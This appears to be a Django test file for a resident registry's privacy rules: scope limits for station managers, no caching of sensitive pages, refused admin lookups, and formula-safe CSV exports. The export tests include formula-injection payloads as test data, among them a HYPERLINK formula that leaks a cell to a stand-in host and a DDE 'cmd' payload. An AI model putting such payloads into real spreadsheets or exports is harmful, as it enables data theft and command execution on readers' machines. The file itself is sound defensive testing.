"""The registry scope (docs/privacy.md): a station manager who sees a resident
only through an order routed to their station may read the ordinary resident
page, never the sensitive data, and may change nothing of the registry. Also:
the export cannot carry a spreadsheet formula, the sensitive pages are never
cached, the back office cannot be filtered on the sensitive facts."""

import csv
import io

import pytest
from django.core.exceptions import PermissionDenied
from django.urls import reverse
from django.utils import timezone

from center.exports import spreadsheet_safe
from center.models import AuditEntry, Role
from center.validators import id_check_character
from requests.models import (
    ResidentConsent,
    ResidentContact,
    ResidentGroup,
    ResidentSensitive,
    ServiceRequest,
)
from requests.selectors import residents as registry_selectors
from requests.services import residents as registry
from tests.factories import ConsentFactory, ResidentFactory, UserFactory, special_group

pytestmark = pytest.mark.django_db

ID17 = "33040219400101123"
ID_NUMBER = ID17 + id_check_character(ID17)
HEALTH = "心脏病，随身带药"


@pytest.fixture
def special(resident):
    """A resident of station A's community: disabled (sensitive), health notes, an ID, a contact."""
    ConsentFactory(resident=resident)
    registry.group_add(actor=None, resident=resident, group=special_group("living-alone"))
    registry.group_add(
        actor=None,
        resident=resident,
        group=special_group("disabled"),
        disability_category="vision",
        disability_level=1,
    )
    registry.sensitive_update(
        actor=None, resident=resident, data={"health_notes": HEALTH, "id_number": ID_NUMBER}
    )
    registry.contact_add(
        actor=None,
        resident=resident,
        data={"name": "王小红", "relation": "女儿", "phone": "13900001234"},
    )
    resident.refresh_from_db()
    return resident


@pytest.fixture
def manager_b(other_station):
    return UserFactory(username="smb", role=Role.STATION_MANAGER, stations=[other_station])


@pytest.fixture
def routed_to_b(make_order, special, other_station):
    """An operator routed an order of station A's resident to station B."""
    order = make_order(station=other_station)
    ServiceRequest.objects.filter(pk=order.pk).update(station=other_station)
    return order


def test_order_routed_elsewhere_shows_the_page_but_nothing_sensitive(
    client, manager_b, special, routed_to_b
):
    client.force_login(manager_b)
    response = client.get(reverse("requests:resident_detail", args=[special.pk]))
    body = response.content.decode()
    assert response.status_code == 200  # the ordinary page: they handle the order
    assert HEALTH not in body and ID_NUMBER not in body and ID_NUMBER[:6] + "*" not in body
    assert 'data-testid="sensitive-reveal"' not in body
    for name in ("resident_sensitive_edit", "resident_group_add", "resident_edit"):
        assert reverse(f"requests:{name}", args=[special.pk]) not in body, name
    reveal = reverse("requests:resident_sensitive_reveal", args=[special.pk])
    assert client.post(reveal, HTTP_HX_REQUEST="true").status_code == 404
    assert not AuditEntry.objects.filter(action__startswith="center.pii.").exists()


def test_order_routed_elsewhere_gives_no_registry_read_or_write(
    client, manager_b, special, routed_to_b
):
    m = special.groups.get(group__code="disabled")
    consent = special.consents.get()
    contact = special.contacts.get()
    client.force_login(manager_b)
    pages = (
        ("resident_sensitive_edit", [special.pk]),
        ("resident_group_add", [special.pk]),
        ("resident_group_edit", [special.pk, m.pk]),
        ("resident_consent_record", [special.pk]),
        ("resident_contact_add", [special.pk]),
        ("resident_contact_edit", [special.pk, contact.pk]),
        ("resident_edit", [special.pk]),
    )
    for name, args in pages:
        assert client.get(reverse(f"requests:{name}", args=args)).status_code == 404, name
    posts = (
        *pages,
        ("resident_group_remove", [special.pk, m.pk]),
        ("resident_consent_withdraw", [special.pk, consent.pk]),
        ("resident_contact_remove", [special.pk, contact.pk]),
    )
    for name, args in posts:
        url = reverse(f"requests:{name}", args=args)
        assert client.post(url, {"name": "改名", "community": ""}).status_code == 404, name
    # Nothing read, nothing changed.
    assert not AuditEntry.objects.filter(action__startswith="center.pii.").exists()
    consent.refresh_from_db()
    special.refresh_from_db()
    assert consent.in_force and special.name != "改名"
    assert ResidentGroup.objects.filter(resident=special).count() == 2
    assert ResidentContact.objects.filter(resident=special).count() == 1
    assert ResidentSensitive.objects.get().health_notes == HEALTH


def test_order_routed_elsewhere_is_not_exported(client, manager_b, special, routed_to_b):
    client.force_login(manager_b)
    # In the list (they may look it up for the order) ...
    listed = client.get(reverse("requests:resident_list")).content.decode()
    assert special.name in listed
    # ... never in the export of sensitive data.
    response = client.get(reverse("requests:resident_export"))
    content = response.content.decode("utf-8-sig")
    assert response.status_code == 200
    assert special.name not in content and ID_NUMBER not in content and HEALTH not in content
    assert not AuditEntry.objects.filter(action="center.pii.exported").exists()


def test_the_services_refuse_a_manager_outside_the_registry_scope(manager_b, special, routed_to_b):
    m = special.groups.get(group__code="disabled")
    calls = (
        lambda: registry.sensitive_reveal(actor=manager_b, resident=special),
        lambda: registry.sensitive_update(
            actor=manager_b, resident=special, data={"health_notes": ""}
        ),
        lambda: registry.group_remove(actor=manager_b, membership=m),
        lambda: registry.consent_withdraw(actor=manager_b, consent=special.consents.get()),
        lambda: registry.consent_record(
            actor=manager_b,
            resident=special,
            scope=["health"],
            method=ResidentConsent.Method.SIGNED,
            given_on=timezone.localdate(),
        ),
        lambda: registry.contact_remove(actor=manager_b, contact=special.contacts.get()),
        lambda: registry.residents_export(actor=manager_b, residents=[special]),
    )
    for call in calls:
        with pytest.raises(PermissionDenied):
            call()
    assert not AuditEntry.objects.filter(action__startswith="center.pii.").exists()
    assert ResidentSensitive.objects.get().health_notes == HEALTH


def test_serving_manager_keeps_the_registry(station_manager, manager_b, special, routed_to_b):
    assert registry_selectors.serves_resident(station_manager, special)
    assert not registry_selectors.serves_resident(manager_b, special)
    assert registry.sensitive_reveal(actor=station_manager, resident=special)["id_number"]


def test_reveal_and_sensitive_edit_are_never_cached(client, station_manager, special):
    client.force_login(station_manager)
    reveal = client.post(
        reverse("requests:resident_sensitive_reveal", args=[special.pk]), HTTP_HX_REQUEST="true"
    )
    assert HEALTH in reveal.content.decode()
    assert "no-store" in reveal["Cache-Control"]
    edit = client.get(reverse("requests:resident_sensitive_edit", args=[special.pk]))
    assert edit.status_code == 200 and "no-store" in edit["Cache-Control"]


# --- Exports carry no formula -------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+8613800000000", "'+8613800000000"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("王大爷", "王大爷"),
        ("", ""),
        (7, 7),
        (None, None),
    ],
)
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


def test_resident_export_neutralises_formulas(client, center_manager, community):
    evil = ResidentFactory(
        community=community,
        name='=HYPERLINK("http://x.example/?"&A1,"点我")',
        address="+1+cmd|' /C calc'!A0",
    )
    ConsentFactory(resident=evil)
    registry.group_add(actor=None, resident=evil, group=special_group("living-alone"))
    registry.sensitive_update(actor=None, resident=evil, data={"health_notes": "@SUM(1,2)"})
    client.force_login(center_manager)
    response = client.get(reverse("requests:resident_export"), {"special": "true"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if "HYPERLINK" in r[1])
    assert row[1].startswith("'=") and row[4].startswith("'+") and row[9] == "'@SUM(1,2)"
    for cells in rows:
        assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)


# --- The back office is not filtered on the facts --------------------------------------------


def test_admin_refuses_lookups_on_sensitive_fields(client, center_manager, special):
    client.force_login(center_manager)
    sensitive = reverse("admin:requests_residentsensitive_changelist")
    assert client.get(sensitive).status_code == 200
    for params in (
        {"health_notes__contains": "心脏"},
        {"health_notes": HEALTH},
        {"id_number__startswith": "330402"},
    ):
        assert client.get(sensitive, params).status_code == 400, params
    groups = reverse("admin:requests_residentgroup_changelist")
    for params in (
        {"disability_category": "vision"},
        {"disability_level__gte": "1"},
        {"group": special_group("disabled").pk},
        {"group__is_sensitive": "1"},
    ):
        assert client.get(groups, params).status_code == 400, params
    # Nothing was read through the filters.
    assert not AuditEntry.objects.filter(action__startswith="center.pii.").exists()
